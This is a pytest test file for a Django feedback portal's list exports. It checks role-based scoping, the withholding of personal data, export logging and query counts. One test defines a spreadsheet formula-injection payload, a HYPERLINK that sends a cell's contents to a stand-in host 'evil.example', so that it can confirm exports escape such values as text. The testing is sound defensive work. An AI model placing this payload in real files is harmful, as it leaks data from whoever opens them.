"""Exports of a filtered list: the viewer's scope and filters, personal data only for the Front, logged."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from feedback.models import PersonalDataAccess
from reports.models import ExportLog

URL = "/bao-cao/danh-sach/"


def rows_of(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_front_officer_exports_their_commune_with_personal_data_and_it_is_logged(client, figures_world, officer_a):
    client.force_login(officer_a)

    response = client.get(URL, {"period": "2026-H1", "measure": "received", "export": "csv"})

    rows = rows_of(response)
    assert response["Content-Disposition"].startswith('attachment; filename="danh-sach-da-tiep-nhan-')
    assert "Số điện thoại" in rows[0] or "Điện thoại" in rows[0]
    codes = {r[0] for r in rows[1:]}
    assert codes == {figures_world[k].tracking_code for k in ("i1", "i2", "i3", "i4")}
    log = ExportLog.objects.get()
    assert (log.user, log.kind, log.rows, log.with_personal_data) == (officer_a, "list_csv", 4, True)
    assert log.filters == {"period": "2026-H1", "measure": "received"}
    assert PersonalDataAccess.objects.filter(user=officer_a, action="export").count() == 4


def test_agency_officer_export_has_no_personal_columns(client, figures_world, agency_officer_a):
    client.force_login(agency_officer_a)

    response = client.get(URL, {"period": "2026-H1", "measure": "answered", "export": "xlsx"})

    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert len(values) == 3  # header + i1 + i2 (agency A's answered items)
    assert "Lò Văn Bình" not in str(values)
    assert "0912345678" not in str(values)
    assert ExportLog.objects.get().with_personal_data is False
    assert not PersonalDataAccess.objects.exists()


def test_filters_apply_to_the_export(client, figures_world, province_officer, commune_b, categories):
    client.force_login(province_officer)

    response = client.get(
        URL,
        {
            "period": "2026-H1",
            "measure": "received",
            "commune": commune_b.pk,
            "category": categories[1].pk,
            "export": "csv",
        },
    )

    assert [r[0] for r in rows_of(response)[1:]] == [figures_world["i6"].tracking_code]


def test_the_board_lists_items_without_personal_data(client, figures_world, board_viewer):
    client.force_login(board_viewer)

    response = client.get(URL, {"period": "2026-H1", "export": "csv"})

    rows = rows_of(response)
    assert len(rows) == 1 + 6  # the header and the 6 items received in 2026-H1 (see figures_world)
    assert "Lò Văn Bình" not in response.content.decode("utf-8-sig")
    log = ExportLog.objects.get()
    assert log.rows == 6
    assert log.with_personal_data is False


def test_an_unknown_measure_falls_back_with_a_message(client, figures_world, province_officer):
    client.force_login(province_officer)

    response = client.get(URL, {"period": "2026-H1", "measure": "nothing"})

    assert response.status_code == 200
    assert "Xã Mường Phăng" in response.content.decode()


def test_anonymous_visitors_are_sent_to_login(client, figures_world):
    assert client.get(URL).status_code == 302


@pytest.mark.parametrize("rows", [1, 50])
def test_list_query_count(client, clock, commune_a, categories, province_officer, rows, django_assert_max_num_queries):
    from tests.reports.conftest import make_item

    for n in range(rows):
        make_item(commune=commune_a, category=categories[n % 2], received="2026-03-01")
    client.force_login(province_officer)
    client.get(reverse("reports-items"), {"period": "2026"})  # warm the session and scope

    with django_assert_max_num_queries(12):
        response = client.get(reverse("reports-items"), {"period": "2026", "measure": "received"})

    assert response.content.decode().count('<tr><td><a href="/can-bo/viec/') == rows


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_formula_in_a_title_exports_as_text(client, figures_world, officer_a, fmt):
    # Given a citizen's title written as a spreadsheet formula, and others starting with + - @ and a tab
    from feedback.models import Item

    titles = {"i1": FORMULA, "i2": "+1+1", "i3": "@SUM(A1)", "i4": "\t=1+1"}
    for key, title in titles.items():
        Item.objects.filter(pk=figures_world[key].pk).update(title=title)
    client.force_login(officer_a)

    response = client.get(URL, {"period": "2026-H1", "measure": "received", "export": fmt})

    if fmt == "csv":
        cells = [c for row in rows_of(response) for c in row]
        assert "'" + FORMULA in cells
        assert FORMULA not in cells
        assert {"'+1+1", "'@SUM(A1)", "'\t=1+1"} <= set(cells)
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [c for row in sheet.iter_rows() for c in row]
        # No cell of the file is a formula; the title is text that shows the apostrophe-escaped formula.
        assert all(c.data_type != "f" for c in cells)
        assert "'" + FORMULA in [c.value for c in cells]


def test_the_cell_rule_keeps_numbers_numbers():
    from decimal import Decimal

    from mttq_portal.spreadsheets import spreadsheet_cell

    assert [spreadsheet_cell(v) for v in (-5, 3.5, Decimal("-1.5"), None, "-12", "+84912345678", "Đường")] == [
        -5,
        3.5,
        Decimal("-1.5"),
        None,
        "-12",
        "+84912345678",
        "Đường",
    ]
    assert [spreadsheet_cell(v) for v in ("=1+1", "-1+1", "@x", "\rx", "+x")] == [
        "'=1+1",
        "'-1+1",
        "'@x",
        "'\rx",
        "'+x",
    ]
